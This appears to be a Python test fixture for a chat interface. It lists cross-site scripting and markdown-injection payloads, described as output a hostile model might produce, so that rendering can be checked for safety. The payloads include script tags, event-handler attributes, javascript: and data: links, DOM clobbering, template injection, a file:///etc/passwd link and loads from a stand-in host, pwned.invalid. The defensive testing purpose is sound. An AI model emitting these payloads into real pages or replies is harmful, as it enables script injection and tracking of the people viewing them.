"""What a hostile model writes: markup that would run in a browser, and sequences that a terminal would obey."""

from tests.tui.hostile_chat import FORGED

XSS = (
    "<script>alert('PWNED')</script>",
    "<ScRiPt src=//pwned.invalid/x.js></ScRiPt>",
    "<img src=x onerror=alert('PWNED')>",
    "<img src='https://pwned.invalid/track.gif'>",
    "<svg onload=alert('PWNED')><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><script>alert('PWNED')</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('PWNED')></style></mglyph></table></mtext></math>",
    "<iframe srcdoc=\"<script>parent.alert('PWNED')</script>\"></iframe>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='https://pwned.invalid/x.swf'>",
    "<link rel=stylesheet href='https://pwned.invalid/x.css'>",
    "<style>@import 'https://pwned.invalid/x.css'; body{display:none}</style>",
    "<base href='https://pwned.invalid/'>",
    "<meta http-equiv=refresh content='0;url=https://pwned.invalid/'>",
    "<form action='https://pwned.invalid/'><input autofocus onfocus=alert('PWNED')><button>Log in</button></form>",
    "<details open ontoggle=alert('PWNED')>x</details>",
    "<video><source onerror=alert('PWNED')></video>",
    "<body onload=alert('PWNED')>",
    "<a href='javascript:alert(1)'>click</a>",
    "<div id=prompt></div><div id=send></div><form id=speakstream></form>",  # clobbering
    "[script](javascript:alert('PWNED'))",
    "[script](JaVaScRiPt&colon;alert('PWNED'))",
    "[script](java\tscript:alert('PWNED'))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[vb](vbscript:msgbox(1))",
    "[file](file:///etc/passwd)",
    "![track](https://pwned.invalid/pixel.png)",
    "![x](x\" onerror=\"alert('PWNED'))",
    "[x](https://ok.invalid/\" onmouseover=\"alert('PWNED'))",
    "<https://pwned.invalid/\" onclick=\"alert('PWNED')>",
    "<javascript:alert('PWNED')>",
    "\"><script>alert('PWNED')</script>",
    "'-alert('PWNED')-'",
    "${alert('PWNED')} {{constructor.constructor('alert(1)')()}} <%= alert(1) %>",
    "&lt;script&gt;alert('PWNED')&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "</textarea></title></style></script><script>alert('PWNED')</script>",
    "<!--><script>alert('PWNED')</script>-->",
    "<![CDATA[<script>alert('PWNED')</script>]]>",
    "\u003cscript\u003ealert('PWNED')\u003c/script\u003e",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('PWNED')>\"></noscript>",
    "<template><script>alert('PWNED')</script></template>",
    "<portal src='https://pwned.invalid/'></portal>",
    "__proto__ constructor toString",
)  # fmt: skip
"""Each would do something where text is taken for markup."""

MARKUP = f"begun {' '.join(XSS)} done"

ESCAPES = f"begun {' '.join(FORGED)} done"

WRAPPED = (
    "# {}\n\n- {}\n\n> **{}**\n\n| a | b |\n| - | - |\n| {} | `{}` |\n\n```html {}\n{}\n```\n\n"
    "[{}](https://x.invalid/{}) ![{}](y) $${}$$ <b>{}</b>\n\n1. *{}* ~~{}~~\n\n[^1]: {}\n\n\u2028\u2029The end.\n"
)
"""Markdown, with something in each of its places."""
